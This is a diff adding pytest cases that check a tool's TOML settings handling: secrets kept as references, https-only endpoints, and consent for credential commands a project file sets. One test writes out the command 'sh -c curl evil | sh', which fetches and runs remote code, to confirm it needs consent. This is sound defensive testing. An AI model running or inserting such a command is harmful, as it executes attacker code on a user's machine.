@@ -267,6 +267,84 @@ def test_without_any_file_there_are_defaults_and_nothing_is_made(project: Path) 
             id="profile",
         ),
         pytest.param(
+            "[profiles.a]\nsecret_key = 'hunter2'",
+            "fgtui.toml:2: secret_key is written out, or no reference; a secret is named by a reference alone",
+            "put it into a variable: ${env:NAME}; or into the keyring: ${keyring:SERVICE/NAME}",
+            id="secret",
+        ),
+        pytest.param(
+            "[profiles.a]\ntoken = 'hunter2${env:REST}'",
+            "fgtui.toml:2: token is written out, or no reference; a secret is named by a reference alone",
+            "put it into a variable: ${env:NAME}; or into the keyring: ${keyring:SERVICE/NAME}",
+            id="half-a-secret",
+        ),
+        pytest.param(
+            "[profiles.a]\niam_password = '${hunter2}'",
+            "fgtui.toml:2: iam_password is written out, or no reference; a secret is named by a reference alone",
+            "put it into a variable: ${env:NAME}; or into the keyring: ${keyring:SERVICE/NAME}",
+            id="secret-in-the-place-of-a-name",
+        ),
+        pytest.param(
+            "[profiles.a]\naccess_key = 12345",
+            "fgtui.toml:2: access_key is a number, not a secret's reference",
+            "",
+            id="secret-number",
+        ),
+        pytest.param(
+            "[profiles.a]\nendpoint = 'http://fg.example'",
+            "fg.example would carry credentials in clear; they travel over https only",
+            "spell it https://functiongraph.REGION.myhuaweicloud.com; plain http is for this machine",
+            id="plain-endpoint",
+        ),
+        pytest.param(
+            "[profiles.a]\nendpoint = 'https://me:hunter2@fg.example'",
+            "…@fg.example has more than a server takes: leave out the name and password",
+            "a header of the event may carry them: headers.Authorization",
+            id="password-in-the-endpoint",
+        ),
+        pytest.param(
+            "[profiles.a]\niam_endpoint = 'https://iam.example/v3'",
+            "v3 is more than an endpoint: leave out what follows the host",
+            "",
+            id="endpoint-with-a-path",
+        ),
+        pytest.param(
+            "[profiles.a]\ncredential_command = 'tool --secret'",
+            "fgtui.toml:2: credential_command is a text, not a command, as a list",
+            "",
+            id="command-as-text",
+        ),
+        pytest.param(
+            "[profiles.a]\ncredential_command = []",
+            "fgtui.toml:2: credential_command names no program",
+            'a list: ["tool", "first argument", "second"]',
+            id="no-command",
+        ),
+        pytest.param(
+            "[profiles.a]\ncredential_command = ['tool', '${env:SECRET}']",
+            "fgtui.toml:2: a command line can be read by every process; references do not belong there",
+            "let the program read the variable itself: it gets yours",
+            id="secret-on-a-command-line",
+        ),
+        pytest.param(
+            "[profiles.a]\naccess_key = '${env:A}'",
+            "fgtui.toml:2: profile a has access_key but no secret_key",
+            "",
+            id="half-of-the-keys",
+        ),
+        pytest.param(
+            "[profiles.a]\niam_endpoint = 'https://iam.example'",
+            "fgtui.toml:2: profile a has iam_endpoint but no iam_user, no iam_domain, no iam_password",
+            "",
+            id="iam-without-a-user",
+        ),
+        pytest.param(
+            "[profiles.a]\ntoken = '${env:T}'\ncredential_file = 'keys'",
+            "fgtui.toml:2: profile a says twice who calls: token and credential_file",
+            "keep one of them",
+            id="two-identities",
+        ),
+        pytest.param(
             "[replay]\ntarget = 'index.handler'",
             "fgtui.toml:2: there is no target 'index.handler'",
             "it names a table of the settings, [targets.NAME]; a handler is spelled there, as its handler",
@@ -377,6 +455,31 @@ def test_what_needs_consent_is_what_the_project_file_names_only(project: Path) -
         "targets.thumbnail.python",
         "targets.thumbnail.runtime",
     ]
+
+
+def test_whatever_could_send_credentials_elsewhere_or_run_a_program_needs_consent(project: Path) -> None:
+    """Of every profile key but ``guard``, which only asks for more care."""
+    asked = {each.key for each in settings_table.SETTINGS if each.needs_consent}
+    declared = {each.key for each in settings_table.SETTINGS if each.key.startswith("profiles.")}
+    assert declared - asked == {"profiles.<name>.guard"}
+    settings = load(project, "[profiles.a]\ncredential_command = ['sh', '-c', 'curl evil | sh']\nproject = 'p'")
+    assert settings.claims == (
+        ("profiles.a.credential_command", "sh -c 'curl evil | sh'"),
+        ("profiles.a.project", "p"),
+    )
+    assert settings.profiles["a"].from_project
+
+
+def test_a_project_replaces_a_profile_whole_but_cannot_take_its_guard_away(project: Path) -> None:
+    own = "\n\n[profiles.prod]\nguard = false\nendpoint = 'https://other.example'"
+    settings = load(
+        project, own, user="[profiles.prod]\nguard = true\ntoken = '${env:T}'\n[profiles.mine]\nproject = 'p'"
+    )
+    prod = settings.profiles["prod"]
+    assert (prod.guard, prod.token, prod.endpoint) == (True, None, "https://other.example")
+    assert prod.from_project
+    assert str(prod.origin).endswith("fgtui.toml:5")
+    assert not settings.profiles["mine"].from_project
 
 
 def test_every_program_and_class_path_entry_a_project_names_needs_consent(project: Path) -> None:
